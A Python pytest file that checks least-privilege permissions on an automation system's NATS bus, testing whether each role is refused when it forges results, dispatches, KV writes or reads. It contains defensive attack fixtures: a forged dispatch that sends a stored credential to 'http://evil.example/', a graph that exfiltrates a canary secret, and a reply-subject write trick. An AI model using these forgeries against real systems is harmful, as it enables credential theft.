"""Least privilege on the bus: the broker as `automateos up` starts it (nats.conf with the generated users), each
actor as its own role, and each forgery the security probe found tried with each role's credentials."""

from __future__ import annotations

import asyncio
import json
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import nats
import nats.errors
import nats.js.errors
import pytest
from nats.aio.client import Client as NATS
from nats.aio.msg import Msg

from automateos.settings import REPO_ROOT
import bus.credentials as credentials_module
from bus import (
    Bus,
    CredentialStore,
    EmbeddedNats,
    MasterKeyError,
    NatsLogin,
    free_port,
    nats_server_binary,
    new_master_key,
    set_up_bus,
    subjects,
)
from bus.permissions import ROLES, auth_config, inbox_prefix, new_password, password_variable
from tests.conftest import TEST_BUS_SETTINGS
from tests.support.mock_http import MockHttp, Reply
from tests.support.stack import MASTER_KEY, Stack, http_graph
from tests.support.waiting import eventually

PASSWORDS = {role: new_password() for role in ROLES}
CANARY = "sk_live_canary_" + "9" * 20


def test_the_committed_auth_config_is_generated_from_the_permissions() -> None:
    assert (REPO_ROOT / "nats-auth.conf").read_text() == auth_config(), "run `make nats-auth.conf`"


@pytest.mark.parametrize("config", ["nats.conf", "nats-cluster.conf"])
def test_the_server_configs_are_valid(config: str) -> None:
    env = {**{password_variable(role): password for role, password in PASSWORDS.items()}, "NATS_SERVER_NAME": "n1"}
    checked = subprocess.run([nats_server_binary(), "-c", str(REPO_ROOT / config), "-t"], env=env,
                             capture_output=True, text=True, timeout=30)
    assert checked.returncode == 0 and "is valid" in checked.stderr + checked.stdout, checked.stderr


@pytest.fixture
def secured_nats(tmp_path: Path) -> Iterator[EmbeddedNats]:
    env = {password_variable(role): password for role, password in PASSWORDS.items()}
    with EmbeddedNats(tmp_path / "nats", port=free_port(), config_file=REPO_ROOT / "nats.conf", env=env) as server:
        yield server


@pytest.fixture
async def secured_stack(secured_nats: EmbeddedNats) -> AsyncIterator[Stack]:
    await set_up_bus(secured_nats.url, TEST_BUS_SETTINGS, login=NatsLogin("admin", PASSWORDS["admin"]))
    stack = Stack(nats_url=secured_nats.url, bus_settings=TEST_BUS_SETTINGS,
                  logins={role: NatsLogin(role, PASSWORDS[role]) for role in ("admin", "gateway", "orchestrator", "engine")})
    await stack.start_orchestrator()
    await stack.start_worker()
    await stack.start_gateway()
    yield stack
    await stack.stop()


async def as_role(server: EmbeddedNats, role: str, violations: list[str]) -> NATS:
    async def on_error(error: Exception) -> None:
        violations.append(str(error))

    return await nats.connect(server.url, user=role, password=PASSWORDS[role], inbox_prefix=inbox_prefix(role),
                              error_cb=on_error, allow_reconnect=False, connect_timeout=5)


async def refused(nc: NATS, violations: list[str], subject: str, payload: bytes = b"{}",
                  headers: dict[str, str] | None = None) -> bool:
    """Whether the server refused a publish to `subject` (it says so asynchronously, as a permissions violation)."""
    before = len(violations)
    await nc.publish(subject, payload, headers=headers)
    await nc.flush()
    for _ in range(100):
        if len(violations) > before:
            return "permissions violation" in " ".join(violations[before:]).lower()
        await asyncio.sleep(0.01)
    return False


async def connect_answer(server: EmbeddedNats, connect: dict[str, object]) -> str:
    """What the server answers a client's CONNECT and PING, over a plain socket."""
    reader, writer = await asyncio.open_connection(server.host, server.port)
    try:
        await reader.readline()  # INFO
        writer.write(f"CONNECT {json.dumps({'verbose': False, **connect})}\r\nPING\r\n".encode())
        await writer.drain()
        return (await asyncio.wait_for(reader.readline(), 5)).decode()
    finally:
        writer.close()
        await writer.wait_closed()


async def test_no_anonymous_access_and_no_wrong_password(secured_nats: EmbeddedNats) -> None:
    assert "Authorization Violation" in await connect_answer(secured_nats, {})
    assert "Authorization Violation" in await connect_answer(secured_nats, {"user": "engine", "pass": "guess"})
    assert await connect_answer(secured_nats, {"user": "engine", "pass": PASSWORDS["engine"]}) == "PONG\r\n"


async def test_runs_work_with_every_actor_on_its_own_role(secured_stack: Stack, mock_http: MockHttp) -> None:
    # A credential (engine reads ciphertext), an HTTP call and a large output (engine stores it apart).
    assert secured_stack.http is not None
    async with secured_stack.http.post(f"{secured_stack.base_url}/v1/credentials",
                                       json={"name": "api", "value": "sk_live_" + "c" * 24}) as response:
        assert response.status == 201, await response.text()
    mock_http.reply("/big", Reply(status=200, body={"blob": "x" * 20_000}))
    graph = http_graph(mock_http.url("/big"), headers={"Authorization": "Bearer {{ getCredential('api') }}"})
    record = await secured_stack.finish(await secured_stack.start_run(graph))
    assert record["status"] == "succeeded", record
    assert mock_http.requests_to("/big")[0].headers["Authorization"].endswith("c" * 24)


FORGED_RESULT = json.dumps({"runId": "r1", "stepId": "call", "attempt": 1, "status": "succeeded",
                            "output": {"forged": True}}).encode()
FORGED_DISPATCH = json.dumps({"runId": "r1", "stepId": "call", "type": "http", "attempt": 1,
                              "config": {"url": "http://evil.example/", "auth": {"credentialName": "api"}}}).encode()


@pytest.mark.parametrize("role", ["gateway", "orchestrator", "integrations"])
async def test_only_an_engine_may_publish_a_result(secured_stack: Stack, secured_nats: EmbeddedNats, role: str) -> None:
    violations: list[str] = []
    nc = await as_role(secured_nats, role, violations)
    try:
        assert await refused(nc, violations, subjects.STEPS_RESULT, FORGED_RESULT)
    finally:
        await nc.close()


@pytest.mark.parametrize("role", ["gateway", "engine", "integrations"])
async def test_only_the_orchestrator_may_dispatch_a_step_or_change_a_run(
    secured_stack: Stack, secured_nats: EmbeddedNats, role: str
) -> None:
    violations: list[str] = []
    nc = await as_role(secured_nats, role, violations)
    try:
        # A dispatch would make a worker decrypt a credential and send it anywhere.
        assert await refused(nc, violations, subjects.STEPS_DISPATCH, FORGED_DISPATCH)
        assert await refused(nc, violations, subjects.run_events("r1"), b'{"runId": "r1", "events": []}')
        assert await refused(nc, violations, subjects.timer("r1", "call"), b"{}")
    finally:
        await nc.close()


PREVIEW = json.dumps({"expression": "{{ 1 + 1 }}"}).encode()


async def test_the_gateway_asks_an_engine_for_a_preview_and_the_engine_answers_nothing_else(
    secured_stack: Stack, secured_nats: EmbeddedNats
) -> None:
    """The engines' account exports `expressions.preview` to the app's; an engine may answer what it is asked
    (allow_responses) and publish nowhere else for it."""
    violations: list[str] = []
    gateway = await as_role(secured_nats, "gateway", violations)
    engine = await as_role(secured_nats, "engine", violations)
    try:
        answer = await gateway.request(subjects.EXPRESSIONS_PREVIEW, PREVIEW, timeout=5)
        assert json.loads(answer.data) == {"value": 2}
        assert not violations, violations
        assert await refused(engine, violations, f"{inbox_prefix('gateway')}.x", b'{"value": "forged"}')
        assert await refused(engine, violations, subjects.EXPRESSIONS_PREVIEW, PREVIEW)
        # The other question engines answer: listing an MCP server's tools (its answer says why it cannot).
        violations.clear()
        listed = await gateway.request(subjects.MCP_TOOLS_LIST, b'{"serverUrl": "http://127.0.0.1:9/mcp"}', timeout=15)
        assert json.loads(listed.data)["error"].startswith("MCP server http://127.0.0.1:9/mcp failed")
        assert not violations, violations
        assert await refused(engine, violations, subjects.MCP_TOOLS_LIST, b"{}")
    finally:
        await gateway.close()
        await engine.close()


@pytest.mark.parametrize("role", ["orchestrator", "integrations"])
async def test_only_the_gateway_may_ask_an_engine(secured_stack: Stack, secured_nats: EmbeddedNats, role: str) -> None:
    violations: list[str] = []
    nc = await as_role(secured_nats, role, violations)
    try:
        for subject in subjects.ENGINE_QUESTIONS:
            assert await refused(nc, violations, subject, PREVIEW)
    finally:
        await nc.close()


@pytest.mark.parametrize("role", ["engine", "integrations"])
async def test_engines_and_integrations_cannot_overwrite_abort_or_read_a_run(
    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp, role: str
) -> None:
    mock_http.reply("/ok", Reply(status=200, body={}))
    run_id = await secured_stack.start_run(http_graph(mock_http.url("/ok")))
    await secured_stack.finish(run_id)
    violations: list[str] = []
    nc = await as_role(secured_nats, role, violations)
    try:
        assert await refused(nc, violations, f"$KV.{subjects.RUNS_BUCKET}.{run_id}", b"{}")
        assert await refused(nc, violations, subjects.RUNS_CANCEL, json.dumps({"runId": run_id}).encode())
        assert await refused(nc, violations, subjects.STEPS_ABORT, json.dumps({"runId": run_id}).encode())
        # Reading the record: a direct get on the runs bucket.
        assert await refused(nc, violations, f"$JS.API.DIRECT.GET.KV_{subjects.RUNS_BUCKET}.$KV.{subjects.RUNS_BUCKET}.{run_id}")
        # Creating a consumer to read the run log or the dispatches through it.
        assert await refused(nc, violations, f"$JS.API.CONSUMER.CREATE.{subjects.EVENTS_STREAM}", b"{}")
        assert await refused(nc, violations, f"$JS.API.CONSUMER.CREATE.{subjects.DISPATCH_STREAM}", b"{}")
        # Nor may it listen to another role's replies.
        with pytest.raises(nats.errors.Error):
            sub = await nc.subscribe(f"{inbox_prefix('gateway')}.>")
            await nc.flush()
            await asyncio.sleep(0.2)
            if any("permissions violation" in v.lower() for v in violations):
                raise nats.errors.Error("refused")
            await sub.unsubscribe()
    finally:
        await nc.close()


async def test_an_engine_cannot_read_the_run_log_and_integrations_cannot_reach_credentials(
    secured_stack: Stack, secured_nats: EmbeddedNats
) -> None:
    violations: list[str] = []
    engine = await as_role(secured_nats, "engine", violations)
    integrations = await as_role(secured_nats, "integrations", violations)
    try:
        assert await refused(engine, violations, f"$JS.API.DIRECT.GET.{subjects.EVENTS_STREAM}", b'{"seq": 1}')
        assert await refused(integrations, violations,
                             f"$JS.API.DIRECT.GET.KV_{subjects.CREDENTIALS_BUCKET}.$KV.{subjects.CREDENTIALS_BUCKET}.cred.api")
        assert await refused(integrations, violations, f"$KV.{subjects.WORKFLOWS_BUCKET}.x", b"{}")
    finally:
        await engine.close()
        await integrations.close()


async def saved(stack: Stack, graph: dict[str, object], name: str = "Billing") -> str:
    assert stack.http is not None
    async with stack.http.post(f"{stack.base_url}/v1/workflows", json={"name": name, "graph": graph}) as response:
        assert response.status == 201, await response.text()
        return str((await response.json())["id"])


async def test_integrations_may_start_a_saved_workflow_and_follow_its_events(
    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp
) -> None:
    mock_http.reply("/from-bus", Reply(status=200, body={"ok": True}))
    workflow_id = await saved(secured_stack, http_graph(mock_http.url("/from-bus")))
    violations: list[str] = []
    nc = await as_role(secured_nats, "integrations", violations)
    try:
        events: list[dict[str, object]] = []
        done = asyncio.Event()

        async def on_events(msg: Msg) -> None:
            batch = json.loads(msg.data)
            events.extend(batch["events"])
            if any(e.get("type") == "run" and e.get("status") == "succeeded" for e in batch["events"]):
                done.set()

        await nc.subscribe(subjects.run_events("billing-7"), cb=on_events)
        request = {"runId": "billing-7", "workflowId": workflow_id, "inputs": {"invoice": "in_1"}}
        ack = await nc.jetstream().publish(subjects.RUNS_REQUESTED, json.dumps(request).encode())
        assert ack.seq > 0, "JetStream's ack comes back to the integrations account"
        await asyncio.wait_for(done.wait(), 30)
        assert not violations, violations
        assert len(mock_http.requests_to("/from-bus")) == 1
    finally:
        await nc.close()
    record = await secured_stack.get_run("billing-7")
    assert (record["trigger"], record["startedBy"], record["workflowId"], record["workflowVersion"]) == (
        "bus", "integrations", workflow_id, 1)
    assert secured_stack.http is not None
    async with secured_stack.http.get(f"{secured_stack.base_url}/v1/audit") as response:
        entries = (await response.json())["entries"]
    [started] = [e for e in entries if e["action"] == "run.start"]
    assert (started["actor"], started["target"], started["detail"]["runId"]) == ("integrations", workflow_id, "billing-7")


async def test_integrations_cannot_run_a_graph_of_their_own(
    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp
) -> None:
    """A graph from the bus could POST {{getCredential('x')}} anywhere: only the gateway's account may send one."""
    assert secured_stack.http is not None
    async with secured_stack.http.post(f"{secured_stack.base_url}/v1/credentials",
                                       json={"name": "x", "value": CANARY}) as response:
        assert response.status == 201
    exfiltrate = http_graph(mock_http.url("/exfiltrate"), json_body={"stolen": "{{ getCredential('x') }}"})
    violations: list[str] = []
    nc = await as_role(secured_nats, "integrations", violations)
    try:
        request = {"runId": "steal-1", "graph": exfiltrate}
        await nc.jetstream().publish(subjects.RUNS_REQUESTED, json.dumps(request).encode())
    finally:
        await nc.close()
    record = await secured_stack.finish("steal-1")
    assert record["status"] == "failed" and "integrations may start saved workflows only" in record["error"], record
    assert mock_http.requests_to("/exfiltrate") == [] and CANARY not in json.dumps(record)


@pytest.mark.parametrize(("role", "subject"), [("integrations", subjects.RUNS_REQUESTED),
                                               ("engine", subjects.STEPS_RESULT)])
@pytest.mark.parametrize("target", [f"$KV.{subjects.CREDENTIALS_BUCKET}.meta.keycheck",
                                    f"$KV.{subjects.WORKFLOWS_BUCKET}.head.wf_x", f"$KV.{subjects.TOKENS_BUCKET}.name.x",
                                    f"$KV.{subjects.RUNS_BUCKET}.r1"])
async def test_outside_roles_cannot_write_a_kv_entry_through_a_reply_subject(
    secured_stack: Stack, secured_nats: EmbeddedNats, target: str, role: str, subject: str
) -> None:
    """JetStream sends its ack to whatever reply subject a publish names, unchecked: from another account, that
    subject is the other account's, so nothing here is written."""
    bucket, key = target.removeprefix("$KV.").split(".", 1)
    admin = await nats.connect(secured_nats.url, user="admin", password=PASSWORDS["admin"])
    try:
        kv = await admin.jetstream().key_value(bucket)

        async def revision() -> int | None:
            try:
                return (await kv.get(key)).revision
            except nats.js.errors.KeyNotFoundError:
                return None

        before = await revision()
        violations: list[str] = []
        nc = await as_role(secured_nats, role, violations)
        try:
            await nc.publish(subject, b'{"workflowId": "none"}', reply=target)
            await nc.flush()
        finally:
            await nc.close()
        assert not violations, violations
        stream = subjects.RUNS_STREAM if subject == subjects.RUNS_REQUESTED else subjects.RESULTS_STREAM

        # The message itself reaches the orchestrator (refused there): once it is consumed, whatever its ack did
        # is done.
        async def handled() -> bool:
            info = await admin.jetstream().stream_info(stream)
            return info.state.messages == 0 and info.state.last_seq >= 1

        await eventually(handled, what="the request to be consumed")
        assert await revision() == before, f"{key} was written"
    finally:
        await admin.close()


async def test_a_result_an_engine_did_not_sign_is_not_believed(
    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp
) -> None:
    """Holding only the engine's NATS password, a forged 'succeeded' for a step still running changes nothing:
    the orchestrator believes results signed with the results key, which only engines and itself hold."""
    mock_http.reply("/slow", Reply(status=200, body={"real": True}, delay_s=1.5))
    graph = http_graph(mock_http.url("/slow"))
    run_id = await secured_stack.start_run(graph)
    await secured_stack.events(run_id, until=lambda e: e.get("type") == "step" and e["step"]["id"] == "call"
                               and e["step"]["status"] == "running")
    violations: list[str] = []
    nc = await as_role(secured_nats, "engine", violations)
    try:
        forged = {"runId": run_id, "stepId": "call", "attempt": 1, "status": "succeeded", "worker": "engine-x",
                  "startedAt": "2026-12-07T00:00:00Z", "finishedAt": "2026-12-07T00:00:01Z", "durationMs": 1.0,
                  "output": {"status": 200, "body": {"forged": True}}}
        for signature in (None, "v1=" + "0" * 64):
            ack = await nc.jetstream().publish(subjects.STEPS_RESULT, json.dumps(forged).encode(),
                                              headers={"AutomateOS-Signature": signature} if signature else None)
            assert ack.seq > 0
    finally:
        await nc.close()
    record = await secured_stack.finish(run_id)
    call = next(s for s in record["steps"] if s["id"] == "call")
    assert record["status"] == "succeeded" and call["output"]["body"] == {"real": True}, call["output"]


@pytest.mark.parametrize("role", ["gateway", "engine", "orchestrator", "integrations"])
async def test_only_admin_writes_the_key_check(secured_stack: Stack, secured_nats: EmbeddedNats, role: str) -> None:
    """Overwriting it would stop every actor at its next start; creating one first would fix the master key."""
    violations: list[str] = []
    nc = await as_role(secured_nats, role, violations)
    try:
        for record in ("meta.keycheck", "meta.scrypt"):
            assert await refused(nc, violations, f"$KV.{subjects.CREDENTIALS_BUCKET}.{record}", b"{}"), (role, record)
    finally:
        await nc.close()


async def test_an_actor_waits_for_admin_to_write_the_key_check_then_says_who_does(
    bus: Bus, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(credentials_module, "KEY_CHECK_PATIENCE_S", 0.3)
    with pytest.raises(MasterKeyError, match="`automateos up` writes it, or `automateos setup`"):
        await CredentialStore.open(bus.credentials_kv, new_master_key(), None, writes_key_check=False)
    await CredentialStore.open(bus.credentials_kv, MASTER_KEY, None)  # admin, as up does
    await CredentialStore.open(bus.credentials_kv, MASTER_KEY, None, writes_key_check=False)
